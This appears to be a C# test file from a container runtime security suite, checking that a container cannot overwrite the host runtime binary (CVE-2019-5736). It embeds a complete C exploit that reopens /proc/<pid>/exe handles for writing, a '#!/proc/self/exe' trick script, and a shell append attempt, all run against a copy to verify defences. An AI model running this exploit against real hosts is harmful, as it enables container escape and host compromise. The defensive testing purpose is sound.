// HRD-01: a container must not be able to write to, or to reach, the binary that starts it (CVE-2019-5736).
using System.Security.Cryptography;
using Berth.Contract.OciRuntime.Stage;

namespace Berth.Contract.OciRuntime.Attacks;

[Row("HRD-01")]
public sealed class RuntimeBinaryTests : ContainerTest
{
    // Opens /proc/<pid>/exe of everything that enters the container and tries to write through it, again and again: the file is busy as long
    // as it runs, so the classic exploit keeps a read-only handle and reopens that for writing once the runtime has gone.
    private const string Exploit = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <errno.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/stat.h>
        #include <unistd.h>
        int main(int n, char **v) {
            char self[4096], exe[4096], path[64];
            struct stat mine, theirs;
            stat("/proc/self/exe", &mine);
            printf("ready\n"); fflush(stdout);
            for (;;) {
                DIR *d = opendir("/proc"); struct dirent *e;
                while ((e = readdir(d))) {
                    if (atoi(e->d_name) <= 1) continue;
                    snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
                    int h = open(path, O_RDONLY | O_CLOEXEC);
                    if (h < 0) continue;
                    if (fstat(h, &theirs) || (theirs.st_ino == mine.st_ino && theirs.st_dev == mine.st_dev) || theirs.st_size < 100000) { close(h); continue; }
                    ssize_t l = readlink(path, exe, sizeof exe - 1); if (l <= 0) { close(h); continue; } exe[l] = 0;
                    if (strncmp(exe, "/bin/", 5) == 0) { close(h); continue; }
                    snprintf(path, sizeof path, "/proc/self/fd/%d", h);
                    printf("caught %s\n", exe); fflush(stdout);
                    for (int i = 0; i < 2000; i++) {
                        int w = open(path, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                            ssize_t wrote = write(w, "#!/bin/false\n", 13);
                            printf("wrote %zd to %s\n", wrote, exe); fflush(stdout);
                            close(w); break;
                        }
                        usleep(500);
                    }
                    close(h);
                }
                closedir(d);
            }
        }
        """;

    private readonly string _before;

    // A copy is attacked: where the attack succeeds, the product must not be its victim.
    public RuntimeBinaryTests()
    {
        Dock.Binary = $"{Dock.Folder}/{Path.GetFileName(Runtime.Path)}";
        File.Copy(Runtime.Path, Dock.Binary);
        _before = Fingerprint();
    }

    private string Fingerprint() => Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(Dock.Binary)));

    [Fact]
    public void A_script_that_names_the_runtime_as_its_interpreter_cannot_overwrite_it()
    {
        Dock.Write();
        // The container's program is the runtime itself, by its link in proc; a library of the image would then run in it.
        File.WriteAllText($"{Dock.Root}/bin/trick", "#!/proc/self/exe\n");
        File.SetUnixFileMode($"{Dock.Root}/bin/trick", (UnixFileMode)0x1ed);
        Dock.Write(config => config.Args("/bin/trick", "--version"));
        Outcome outcome = Dock.Command("run", "--bundle", Dock.Bundle, Id).Run();
        Assert.DoesNotContain("#!/bin/false", outcome.Output);
        Assert.Equal(_before, Fingerprint());
        Dock.Bare("--version").Run().Succeeded();
    }

    [Fact]
    public void An_executed_runtime_cannot_be_overwritten_from_inside()
    {
        Dock.Write();
        NativeProgram.Install(Exploit, $"{Dock.Root}/bin/exploit");
        Started(config => config.Args("/bin/exploit").Capabilities("CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH"));
        for (int i = 0; i < 10; i++) Exec("/proc/self/exe", "--version");
        for (int i = 0; i < 10; i++) Exec("/bin/true").Succeeded();
        Assert.Equal(_before, Fingerprint());
        Dock.Bare("--version").Run().Succeeded();
        Call("delete", "--force", Id).Succeeded();
        Assert.Equal(_before, Fingerprint());
    }

    [Fact]
    public void The_program_of_the_first_process_before_start_is_not_the_hosts_file()
    {
        Dock.Create(config => config.Shell(Obedient));
        // What runs there until start is a copy, or a file nobody can open for writing; its name must not lead to the host's binary.
        string link = new FileInfo($"/proc/{Dock.Pid()}/exe").LinkTarget!;
        if (link == Dock.Binary)
        {
            // A bind of the binary onto itself, read-only, has the same name: then the mount must refuse the write.
            Outcome write = Dock.Tool("sh", "-c", $": >> /proc/{Dock.Pid()}/exe").Run();
            Assert.True(write.ExitCode != 0, "the binary can be opened for appending through the first process");
        }
        Call("start", Id).Succeeded();
    }
}
